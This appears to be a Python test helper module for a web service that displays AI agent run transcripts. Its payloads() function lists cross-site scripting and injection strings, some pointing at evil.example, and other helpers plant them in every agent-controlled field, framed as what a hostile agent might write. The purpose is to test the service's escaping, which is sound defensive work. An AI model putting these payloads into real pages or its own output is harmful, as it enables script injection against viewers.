"""Shared by the tests of the pages: a service over one store, and run info as from Temporal."""

import asyncio
import json
from collections.abc import AsyncIterator, Callable, Iterator, Mapping, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import aiohttp
from starlette.types import ASGIApp, Message

from agent_runs.client import links
from agent_runs.client.names import Names
from agent_runs.client.obstacles import Obstacle
from agent_runs.client.run_list import PAGE_RUNS, RunFilter, RunPage, RunsUnavailable
from agent_runs.client.runs import RunSummary
from agent_runs.client.settings import ClientSettings
from agent_runs.client.tell import Answers
from agent_runs.client.timeline import Step
from agent_runs.contracts.errors import Failure, RunError
from agent_runs.contracts.identity import AttemptKey, RunKey
from agent_runs.contracts.outcome import AttemptReport, Outcome
from agent_runs.contracts.updates import Question
from agent_runs.transcript.store import Line, TranscriptStore
from agent_runs.transcript.tokens import Tokens, authorization
from agent_runs.web.run_info import RunInfo, RunInfoUnavailable
from agent_runs.web.server import serving
from agent_runs.web.serving import application

NOON = datetime(2026, 1, 2, 12, 0, 0, tzinfo=UTC)
POLL = timedelta(milliseconds=20)
KEY = RunKey(agent_id="ada", company_id="acme", run_id="run-1")
RUN = KEY.name
"""In paths."""


def key(attempt: int = 1, run: str = RUN) -> AttemptKey:
    return AttemptKey(run=RunKey.named(run, "acme"), attempt=attempt)


def line(sequence: int, data: bytes, stream: str = "stdout") -> Line:
    return Line(sequence, stream, data, at=NOON + timedelta(seconds=sequence))


def event(kind: str, **part: object) -> bytes:
    return json.dumps({"type": kind, "sessionID": "ses_1", "part": part}).encode()


def text_event(text: str) -> bytes:
    return event("text", text=text)


def tool(output: str, **arguments: object) -> bytes:
    return event("tool_use", tool="bash", state={"status": "completed", "input": arguments, "output": output})


def run_info(phase: str = "running", outcome: Outcome | None = None, **more: object) -> RunInfo:
    """RunInfo of the run, open unless there is an outcome."""
    run = RunSummary(
        key=key().run,
        workflow_id="agent-run:ada",
        workflow_run_id="0001",
        phase=phase,
        model="fake/model",
        failure_code=None,
        task_key=None,
        open=outcome is None,
        started_at=NOON,
        ended_at=None if outcome is None else NOON + timedelta(minutes=3, seconds=20),
        kept_until=None,
        events=1,
    )
    steps = [Step("create_job", NOON, NOON + timedelta(seconds=1))]
    return RunInfo(run, steps, outcome, **more)  # type: ignore[arg-type]  # tests pass the fields of RunInfo


@dataclass
class FakeRunInfo:
    """RunInfo that a test sets; None: Temporal does not know the run."""

    info: RunInfo | None = None
    down: bool = False
    runs: Sequence[RunSummary] = ()
    asked: list[tuple[RunFilter, bytes | None]] = field(default_factory=list)
    obstacles: dict[str, str] = field(default_factory=dict)
    cancelled: list[tuple[str, str]] = field(default_factory=list)
    messages: list[tuple[str, str, str, str]] = field(default_factory=list)
    asks: Sequence[Question] = ()
    answers: list[tuple[str, str, Answers, str, str]] = field(default_factory=list)
    refusal: RunError | None = None

    async def run_info(self, run: RunKey) -> RunInfo | None:
        if self.down:
            raise RunInfoUnavailable("Temporal does not answer")
        return self.info if run.name == RUN else None

    async def cancel(self, run: RunKey, reason: str) -> bool:
        if self.down:
            raise RunInfoUnavailable("Temporal does not answer")
        self.cancelled.append((run.name, reason))
        return run.name == RUN

    async def tell(self, run: RunKey, text: str, by: str, message: str) -> bool:
        if self.down:
            raise RunInfoUnavailable("Temporal does not answer")
        if self.refusal:
            raise self.refusal
        self.messages.append((run.name, text, by, message))
        return run.name == RUN

    async def questions(self, run: RunKey) -> Sequence[Question]:
        if self.down:
            raise RunInfoUnavailable("Temporal does not answer")
        return self.asks if run.name == RUN else ()

    async def answer(self, run: RunKey, question: Question, answers: Answers, by: str, message: str) -> bool:
        if self.refusal:
            raise self.refusal
        self.answers.append((run.name, question.id, answers, by, message))
        return run.name == RUN

    async def list_page(self, wanted: RunFilter, cursor: bytes | None) -> RunPage:
        """The runs from the cursor on, a page of them; filters are Temporal's."""
        if self.down:
            raise RunsUnavailable("Temporal does not answer")
        self.asked.append((wanted, cursor))
        start = int(cursor or b"0")
        end = start + PAGE_RUNS
        return RunPage(self.runs[start:end], b"%d" % end if end < len(self.runs) else None, self.obstacles)


@dataclass
class Site:
    """The service with its page."""

    store: TranscriptStore
    source: FakeRunInfo
    settings: ClientSettings
    base: str = ""
    http: aiohttp.ClientSession = field(init=False)

    def access_tokens(self) -> Tokens:
        return links.load_tokens(self.settings)

    def token(self, run: str = RUN) -> str:
        return self.access_tokens().mint(RunKey.named(run))

    @property
    def link(self) -> str:
        """The page with its token, as a person gets it."""
        return f"{self.base}/runs/{RUN}?open={self.token()}"

    async def get(self, path: str, status: int = 200) -> str:
        async with self.http.get(path) as answer:
            assert answer.status == status, await answer.text()
            return str(await answer.text())


@asynccontextmanager
async def site(folder: Path, port: int = 0, /, **more: object) -> AsyncIterator[Site]:
    """A service at this port, else a free one; the session of `http` sends a valid token."""
    settings = ClientSettings(sealing_key_file=folder / "key.json", **more)  # type: ignore[arg-type]  # of any setting
    store = await TranscriptStore.open(f"sqlite:///{folder}/transcripts.db")
    running = Site(store, FakeRunInfo(), settings)
    try:
        service = application(settings, store, running.source, poll=POLL)
        headers = authorization(running.token())
        async with (
            serving(service, port=port, drain=POLL) as running.base,
            aiohttp.ClientSession(running.base, headers=headers) as running.http,
        ):
            yield running
    finally:
        await store.close()


async def answered(
    application: ASGIApp, path: str, headers: Mapping[str, str], query: str = "", sent: Callable[[], None] | None = None
) -> bytes:
    """What an application answers without a server, whose buffers would hide how much it sends; `sent` after a part."""
    body = bytearray()

    async def receive() -> Message:
        await asyncio.Event().wait()
        raise AssertionError("the reader sends nothing more")

    async def send(message: Message) -> None:
        body.extend(message.get("body", b""))
        if sent is not None:
            sent()

    raw = [(name.lower().encode(), text.encode()) for name, text in headers.items()]
    scope = {"type": "http", "method": "GET", "path": path, "query_string": query.encode(), "headers": raw}
    async with asyncio.timeout(60):
        await application(scope, receive, send)
    return bytes(body)


def payloads() -> Iterator[str]:
    """What a hostile agent may write to run code in the browser of who looks at its run."""
    mark = "window.pwned=1"
    yield f"<script>{mark}</script>"
    yield f"</pre></details></li></ol></script><script>{mark}</script>"
    yield f"<img src=x onerror={mark}>"
    yield f'"><svg onload="{mark}">'
    yield f"'><body onload='{mark}'>"
    yield f"[click](javascript:{mark})"
    yield f"<javascript:{mark}>"
    yield f'![x](x"onerror="{mark})'
    yield f"<iframe srcdoc='<script>parent.{mark}</script>'></iframe>"
    yield f"<meta http-equiv=refresh content='0;url=javascript:{mark}'><base href=//evil.example/>"
    yield "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>"
    yield "<form action=//evil.example/><input name=logs></form>"
    yield "{{ 7 * 191 }}{% raw %}${7*191}<%= 7*191 %>"
    yield f"&lt;script&gt;{mark}&lt;/script&gt; &#60;script&#62;{mark}&#60;/script&#62;"
    yield f"\x1b]8;;javascript:{mark}\x07x\x1b]8;;\x07\x1b[2J\u202e\u2066\x00"
    yield f"```html\n<script>{mark}</script>\n```\n<!-- <script>{mark}</script> -->"
    yield f'\ndata: x\n\nevent: header\ndata: "<script>{mark}</script>"\n\n'
    yield f"+ADw-script+AD4-{mark}+ADw-/script+AD4-"


def hostile() -> list[bytes]:
    """Lines of every kind that carry the payloads."""
    found: list[bytes] = []
    for payload in payloads():
        found += [
            text_event(payload),
            event("reasoning", text=payload),
            event("tool_use", tool=payload, callID=payload, state={"status": "completed", "output": payload}),
            event("tool_use", tool="bash", state={"status": "error", "input": {payload: payload}, "error": payload}),
            event("tool_use", tool="invalid", state={"input": {"tool": payload}, "title": payload}),
            event("tool_use", tool="bash", state={"status": "completed", "title": payload, "output": "done"}),
            event("tool_use", tool="edit", state={"input": {"filePath": payload}, "output": payload}),
            event("step_finish", reason=payload),
            json.dumps({"type": "error", "error": {"name": payload, "data": {"message": payload}}}).encode(),
            json.dumps({"type": payload}).encode(),
            json.dumps({"type": "text", "sessionID": payload, "part": {"text": payload}}).encode(),
            payload.replace("\n", " ").encode(),
        ]
    return found


def missing() -> list[bytes]:
    """What a line that tells of a gap may hold, were an agent able to write one."""
    found = [json.dumps({"frames": payload, "afterSequence": payload}).encode() for payload in payloads()]
    return [*found, *(payload.replace("\n", " ").encode() for payload in payloads())]


def with_hostile_texts() -> RunInfo:
    """RunInfo with the payloads wherever an agent, its model or its cluster has a say."""
    bad = "".join(payloads())
    failure = Failure(code=bad, message=bad, next_step=bad, budget="agent")
    run = replace(run_info().run, key=RunKey(agent_id=bad, company_id=bad, run_id=KEY.run_id), phase=bad, model=bad)
    run = replace(run, names=Names(bad, bad), task_key=bad)
    reports = tuple(AttemptReport(attempt=n, job_name=bad, failure_code=bad) for n in (1, 2))
    outcome = Outcome(
        failure=failure, error_code=bad, error_message=bad, session_id=bad, summary=bad, model=bad, attempts=reports
    )
    texts = {
        "facts": dict.fromkeys(("agent", "task", "woken by", "model", "pod", "node"), bad),
        "reasons": {1: bad, 2: bad},
    }
    steps = [Step(bad, NOON, None), Step(bad, NOON, None, attempt=2)]
    obstacles = [Obstacle("step_fails", bad, bad, NOON)]
    info = replace(run_info(outcome=outcome), **texts)  # type: ignore[arg-type]  # fields of RunInfo
    return replace(info, run=run, steps=steps, obstacles=obstacles, warnings=[bad])
